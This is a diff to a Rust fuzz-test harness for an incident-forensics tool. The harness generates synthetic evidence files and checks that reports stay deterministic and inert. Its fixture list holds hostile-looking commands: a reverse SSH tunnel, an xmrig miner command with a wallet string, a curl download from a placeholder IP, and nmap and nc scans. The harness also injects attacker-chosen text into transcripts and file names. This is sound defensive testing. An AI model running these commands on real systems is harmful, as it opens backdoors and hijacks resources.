@@ -48,8 +48,8 @@ const HOSTILE: [&str; 16] = [
 
 const COMMANDS: [&str; 16] = [
     "ls -la",
-    "ssh -f -N -R 2222:localhost:22 jump.example -p 443",
-    "./xmrig -o pool.supportxmr.com:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -k",
+    "ssh -f -N -R 2222:localhost:22 203.0.113.66 -p 443",
+    "./xmrig -o 203.0.113.9:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -k",
     "nmap -p 1-1000 10.30.0.20",
     "curl -sO http://203.0.113.9:8080/",
     "for p in 22 80 443; do nc -vz 10.30.0.20 $p; done",
@@ -70,6 +70,10 @@ const PORTS: [u16; 8] = [443, 3333, 22, 53, 80, 8080, 4444, 14_444];
 
 fn hostile(bytes: &mut Bytes<'_>) -> String {
     let choice = bytes.u8();
+    // Mostly nothing, so that the rest is evidence that lines up.
+    if choice < 0x60 {
+        return String::new();
+    }
     let mut text = HOSTILE[usize::from(choice & 15)].to_owned();
     if choice & 0xf0 == 0xf0 {
         text.push_str(&String::from_utf8_lossy(bytes.short()));
@@ -93,7 +97,7 @@ fn transcript(bytes: &mut Bytes<'_>) -> String {
     let mut put = |second: u32, id: usize, role: &str, content: &str| {
         let _ = writeln!(
             lines,
-            "{{\"sessionId\":{session},\"type\":\"{role}\",\"uuid\":\"u{id}\",\"version\":\"2.0.14\",\"cwd\":\"/w\",\"message\":{{\"role\":\
+            "{{\"parentUuid\":null,\"sessionId\":{session},\"type\":\"{role}\",\"uuid\":\"u{id}\",\"version\":\"2.0.14\",\"cwd\":\"/w\",\"message\":{{\"role\":\
              \"{role}\",\"content\":{content}}},\"timestamp\":\"{}\"}}",
             moment(second, id as u32 * 7 % 1000)
         );
@@ -232,16 +236,38 @@ fn gpu(bytes: &mut Bytes<'_>) -> String {
 const CASE: &str = "[[host]]\nname = \"train-07\"\naddresses = [\"10.20.0.5\"]\nagent = true\n[egress]\nallow = [\"10.0.0.0/8\"]\n[gpu]\n\
                     allocated = [\"python3\"]\nprice_per_gpu_hour = 3.5\n[intel]\naddresses = [\"203.0.113.66\"]\n";
 
-/// The files that the bytes stand for, and the case.
-fn evidence(data: &[u8], folder: &Path) -> (Vec<PathBuf>, CaseFile) {
+/// A recorded incident with findings of its own.
+const RECORDED: [(&str, &[u8]); 3] = [
+    ("capture.pcap", include_bytes!("../../testdata/incidents/planted-delay/evidence/capture.pcap")),
+    ("ep-001.jsonl", include_bytes!("../../testdata/incidents/planted-delay/evidence/transcripts/run-a/ep-001.jsonl")),
+    ("ep-002.jsonl", include_bytes!("../../testdata/incidents/planted-delay/evidence/transcripts/run-a/ep-002.jsonl")),
+];
+
+/// The recorded incident, with text of the attacker's choice behind every command.
+fn recorded(bytes: &mut Bytes<'_>) -> Vec<(String, Vec<u8>)> {
+    let said = hostile(bytes);
+    let quoted = quoted(&format!(" #{said}"));
+    let comment = quoted.trim_start_matches('"').strip_suffix('"').unwrap_or_default();
+    let with = |content: &[u8]| match std::str::from_utf8(content) {
+        Ok(text) => {
+            let end = "\"}}],\"stop_reason\"";
+            text.replace(end, &format!("{comment}{end}")).into_bytes()
+        }
+        Err(_) => content.to_vec(),
+    };
+    RECORDED.iter().map(|(name, content)| ((*name).to_owned(), with(content))).collect()
+}
+
+/// The files that the bytes stand for, and the case. Files have names of the attacker's choice, too.
+pub(crate) fn evidence(data: &[u8], folder: &Path) -> (Vec<PathBuf>, CaseFile) {
     let mut bytes = Bytes::new(data);
     let choice = bytes.u8();
     let mut case = CaseFile::default();
     if choice & 1 != 0 {
         case = CaseFile::parse(CASE, "case.toml").expect("a case file");
     }
-    let mut paths = Vec::new();
-    for number in 0..=(choice >> 1) % 3 {
+    let mut files = if choice & 0xc0 == 0xc0 { recorded(&mut bytes) } else { Vec::new() };
+    for _ in 0..=(choice >> 1) % 3 {
         let (name, content) = match bytes.u8() % 8 {
             0 => ("any.log", bytes.long().to_vec()),
             1 | 2 => ("ep.jsonl", transcript(&mut bytes).into_bytes()),
@@ -251,11 +277,17 @@ fn evidence(data: &[u8], folder: &Path) -> (Vec<PathBuf>, CaseFile) {
             6 => ("b.pcap", wrap::capture(bytes.long()).unwrap_or_default()),
             _ => ("gpu.csv", gpu(&mut bytes).into_bytes()),
         };
-        let path = folder.join(format!("{number}-{name}"));
-        fs::write(&path, content).expect("a file");
-        paths.push(path);
+        let before = if choice & 0x10 != 0 { hostile(&mut bytes).replace(['/', '\0'], "_") } else { String::new() };
+        files.push((format!("{}{}{name}", before.chars().take(40).collect::<String>(), files.len()), content));
     }
-    (paths, case)
+    let put = |(name, content): (String, Vec<u8>)| {
+        let path = folder.join(name);
+        fs::write(&path, content).expect("a file");
+        path
+    };
+    let paths: Vec<PathBuf> = files.into_iter().map(put).collect();
+    // A folder alone: its files are then shown by their names in it.
+    (if choice & 0x20 != 0 { vec![folder.to_owned()] } else { paths }, case)
 }
 
 /// Everything that is printed, by what it is.
@@ -321,13 +353,14 @@ fn printed(paths: &[PathBuf], case_file: &CaseFile) -> Vec<(String, Vec<u8>)> {
 /// Evidence of up to three files through intake, correlation and every report: the same bytes at one thread and at two, whatever
 /// the order in which the files are named; and nothing in them that acts on who looks at them.
 pub fn whole(data: &[u8]) {
-    let folder = scratch("whole");
+    let folder = scratch("whole").join("case");
+    let _ = fs::remove_dir_all(&folder);
+    fs::create_dir(&folder).expect("a folder");
     let (mut paths, case_file) = evidence(data, &folder);
     let [one, two] = &*POOLS;
     let all = one.install(|| printed(&paths, &case_file));
     paths.reverse();
     let again = two.install(|| printed(&paths, &case_file));
-    paths.iter().for_each(|path| drop(fs::remove_file(path)));
     for ((name, bytes), (_, others)) in all.iter().zip(&again) {
         let text = String::from_utf8(bytes.clone()).expect("UTF-8");
         if bytes != others {
